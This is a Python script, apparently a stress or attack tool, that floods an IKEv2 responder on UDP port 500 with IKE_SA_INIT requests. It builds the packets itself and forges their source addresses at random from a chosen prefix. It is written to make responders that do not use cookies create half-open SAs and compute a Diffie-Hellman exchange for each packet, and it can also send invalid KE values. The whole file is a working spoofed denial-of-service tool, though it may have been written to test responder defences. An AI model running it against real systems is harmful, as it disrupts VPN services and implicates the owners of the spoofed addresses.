#!/usr/bin/python3
"""ike_init_flood.py: a flood of IKE_SA_INIT requests with spoofed source addresses.

  ike_init_flood.py --dst ADDR --prefix NET/LEN [--rate PPS] [--seconds S] [--port P] [--ke valid|invalid]

Sends, through a raw socket that writes its own IPv4 header (IP_HDRINCL), syntactically valid
IKE_SA_INIT requests (RFC 7296 1.2: SA, KE, Ni) to ADDR's UDP port P (500), each from a random
address in NET/LEN and port 500, with a random SPIi and nonce: the seed's proposal
(ENCR_AES_GCM_16 128, PRF_HMAC_SHA2_256, MODP-2048) and a 256-byte KE for group 14, so a
responder that does not ask for COOKIEs would create a half-open IKE SA (and compute a DH) for
each. The KE values are squares modulo the prime, so in the subgroup of order q that a
responder checks public values against (RFC 7296 5.12, SP 800-56A); --ke invalid sends their
negatives instead, which are not (p = 3 mod 4: -1 is not a square) and fail that check. Paced to PPS per second for S seconds, in bursts of at most 5 ms of packets. Prints a line
"flood: sending ..." when it starts and on exit:
  flood: sent N IKE_SA_INIT requests in T s: R per second (target PPS), E send errors
"""
import argparse
import ipaddress
import os
import socket
import struct
import sys
import time

IKE_SA_INIT = 34
FLAG_INITIATOR = 0x08
SA, KE, NONCE = 33, 34, 40
# The MODP-2048 prime (RFC 3526 3).
MODP2048 = int(
    "FFFFFFFFFFFFFFFFC90FDAA22168C234C4C6628B80DC1CD129024E088A67CC74020BBEA63B139B22514A08798E3404DD"
    "EF9519B3CD3A431B302B0A6DF25F14374FE1356D6D51C245E485B576625E7EC6F44C42E9A637ED6B0BFF5CB6F406B7ED"
    "EE386BFB5A899FA5AE9F24117C4B1FE649286651ECE45B3DC2007CB8A163BF0598DA48361C55D39A69163FA8FD24CF5F"
    "83655D23DCA3AD961C62F356208552BB9ED529077096966D670C354E4ABC9804F1746C08CA18217C32905E462E36CE3B"
    "E39E772C180E86039B2783A2EC07A28FB5C55DF06F4C52C9DE2BCBF6955817183995497CEA956AE515D2261898FA0510"
    "15728E5A8AACAA68FFFFFFFFFFFFFFFF", 16)


def payload(next_type, body):
    return struct.pack("!BBH", next_type, 0, 4 + len(body)) + body


def transform(last, ttype, tid, attrs=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), ttype, 0, tid) + attrs


def ike_sa_init_template():
    """The IKE message with SPIi, the KE value and the nonce to be overwritten per packet."""
    transforms = (transform(False, 1, 20, struct.pack("!HH", 0x800E, 128))  # ENCR_AES_GCM_16, 128-bit key
                  + transform(False, 2, 5)                                 # PRF_HMAC_SHA2_256
                  + transform(True, 4, 14))                                # DH group 14 (MODP-2048)
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    ke = struct.pack("!HH", 14, 0) + bytes(256)
    body = payload(KE, proposal) + payload(NONCE, ke) + payload(0, bytes(32))
    header = struct.pack("!QQBBBBII", 0, 0, SA, 0x20, IKE_SA_INIT, FLAG_INITIATOR, 0, 28 + len(body))
    return bytearray(header + body)


def main():
    p = argparse.ArgumentParser(description="IKE_SA_INIT flood from spoofed source addresses")
    p.add_argument("--dst", required=True)
    p.add_argument("--prefix", required=True)
    p.add_argument("--rate", type=int, default=5000)
    p.add_argument("--seconds", type=float, default=20)
    p.add_argument("--port", type=int, default=500)
    p.add_argument("--ke", choices=("valid", "invalid"), default="valid")
    a = p.parse_args()
    dst = ipaddress.IPv4Address(a.dst)
    net = ipaddress.IPv4Network(a.prefix)
    base, hosts = int(net.network_address), net.num_addresses

    ike = ike_sa_init_template()
    # Offsets in the IKE message: SPIi at 0, the KE value after the header (28), the SA payload
    # and the KE payload's own 8 bytes; the nonce at the end.
    sa_len = struct.unpack_from("!H", ike, 28 + 2)[0]
    ke_at = 28 + sa_len + 8
    nonce_at = len(ike) - 32
    udp_len = 8 + len(ike)
    # IPv4 header: the kernel fills in the checksum, and the ID when it is 0 (raw(7)). UDP
    # checksum 0: none (RFC 768), which the receiver accepts.
    ip_header = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0x4000, 64, socket.IPPROTO_UDP, 0,
                                      bytes(4), dst.packed))
    udp_header = struct.pack("!HHHH", 500, a.port, udp_len, 0)
    packet = ip_header + udp_header + ike
    ike_at = 28

    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    target = (str(dst), 0)

    random = os.urandom
    squares = [pow(int.from_bytes(random(256), "big") % MODP2048, 2, MODP2048) for _ in range(256)]
    kes = [(v if a.ke == "valid" else MODP2048 - v).to_bytes(256, "big") for v in squares]
    print(f"flood: sending to {dst} port {a.port} from {net}, {a.rate} per second for {a.seconds:g} s", flush=True)
    sent = errors = 0
    start = time.monotonic()
    end = start + a.seconds
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = min(int((now - start) * a.rate) + 1 - sent, max(a.rate // 200, 1))  # at most 5 ms of packets at once
        if due <= 0:
            time.sleep(min(0.001, end - now))
            continue
        # Per packet: 4 random bytes for the address, 8 for SPIi, 1 to pick the KE, 32 for Ni.
        block = random(due * 45)
        for i in range(due):
            r = block[i * 45:(i + 1) * 45]
            address = base + int.from_bytes(r[0:4], "big") % hosts
            packet[12:16] = address.to_bytes(4, "big")
            packet[ike_at:ike_at + 8] = r[4:12]                                # SPIi
            packet[ike_at + ke_at:ike_at + ke_at + 256] = kes[r[12]]           # KE value
            packet[ike_at + nonce_at:ike_at + nonce_at + 32] = r[13:45]       # Ni
            try:
                s.sendto(packet, target)
            except OSError:
                errors += 1
            sent += 1
    elapsed = time.monotonic() - start
    ok = sent - errors
    print(f"flood: sent {ok} IKE_SA_INIT requests in {elapsed:.1f} s: {ok / elapsed:.0f} per second "
          f"(target {a.rate}), {errors} send errors", flush=True)
    return 0 if ok > 0 else 1


if __name__ == "__main__":
    sys.exit(main())
